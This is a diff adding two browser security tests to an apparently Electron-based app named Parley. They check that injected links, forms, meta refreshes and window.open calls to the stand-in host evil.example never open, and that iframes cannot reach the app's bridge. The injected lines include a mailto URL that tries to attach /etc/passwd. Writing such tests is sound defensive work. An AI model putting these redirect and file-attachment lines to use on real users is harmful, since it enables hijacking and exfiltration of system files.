@@ -120,6 +120,69 @@ it('runs no script but its own, and speaks to no other server', async () => {
   expect(refused.violations).toEqual(expect.arrayContaining(['script-src-elem', 'img-src', 'connect-src']));
 });
 
+it('opens nothing outside that no person has clicked, and stays on its own page (C06)', async () => {
+  const { page, stderr } = parley;
+  const address = page.url();
+  await page.evaluate(() => {
+    const link = Object.assign(document.createElement('a'), {
+      href: 'https://evil.example/link',
+      target: '_blank',
+    });
+    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/form' });
+    const refresh = document.createElement('meta');
+    refresh.httpEquiv = 'refresh';
+    refresh.content = '0;url=https://evil.example/refresh';
+    document.body.append(link, form);
+    window.open('https://evil.example/opened');
+    window.open('https://evil.example/named', 'other', 'width=100');
+    window.open('mailto:a@evil.example?attach=/etc/passwd');
+    link.click();
+    link.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }));
+    form.submit();
+    document.head.append(refresh);
+    location.href = 'https://evil.example/left';
+  });
+  // Whoever clicks afterwards opens what they clicked: by then all else would have been opened.
+  await page.evaluate(() => {
+    const own = Object.assign(document.createElement('a'), {
+      href: 'mailto:a@good.example?subject=Hello&attach=/etc/passwd',
+      target: '_blank',
+      textContent: 'A link for this test',
+    });
+    own.style.cssText = 'position: fixed; inset: 0; z-index: 99999';
+    document.body.append(own);
+  });
+  await page.getByText('A link for this test').click();
+  await expect.poll(stderr).toContain('would open mailto:a@good.example?subject=Hello in the browser');
+  expect(stderr()).not.toContain('evil.example in the browser');
+  expect(stderr()).not.toMatch(/would open \S*evil/);
+  expect(page.url()).toBe(address);
+  await page.reload();
+});
+
+it('gives a frame no way to Parley (C31)', async () => {
+  const found = await parley.page.evaluate(async (elsewhere) => {
+    const violations: string[] = [];
+    addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
+    for (const src of ['/index.html', '/overlay.html', elsewhere, 'data:text/html,x']) {
+      const frame = Object.assign(document.createElement('iframe'), { src });
+      document.body.append(frame);
+    }
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    const reached = [...document.querySelectorAll('iframe')].map((frame) => {
+      try {
+        return frame.contentWindow !== null && 'bridge' in frame.contentWindow;
+      } catch {
+        return false; // of another origin: the page itself cannot look into it
+      }
+    });
+    for (const frame of document.querySelectorAll('iframe')) frame.remove();
+    return { violations, reached };
+  }, service.baseUrl);
+  expect(new Set(found.violations)).toEqual(new Set(['frame-src']));
+  expect(found.reached).toEqual([false, false, false, false]);
+});
+
 it('has nothing of Node or Electron in its page', async () => {
   const found = await parley.page.evaluate(() =>
     ['require', 'process', 'module', 'Buffer', 'electron'].filter((name) => name in globalThis),
